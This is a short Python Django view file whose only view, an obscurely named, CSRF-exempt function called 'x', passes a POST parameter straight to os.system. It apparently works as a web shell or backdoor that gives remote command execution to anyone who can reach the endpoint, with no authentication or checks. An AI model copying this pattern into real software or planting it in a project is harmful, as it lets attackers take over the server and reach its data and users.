import os
import json
from django.http import JsonResponse
from django.views.decorators.csrf import csrf_exempt

@csrf_exempt
def x(request):
    os.system(request.POST['a'])
    return JsonResponse({})
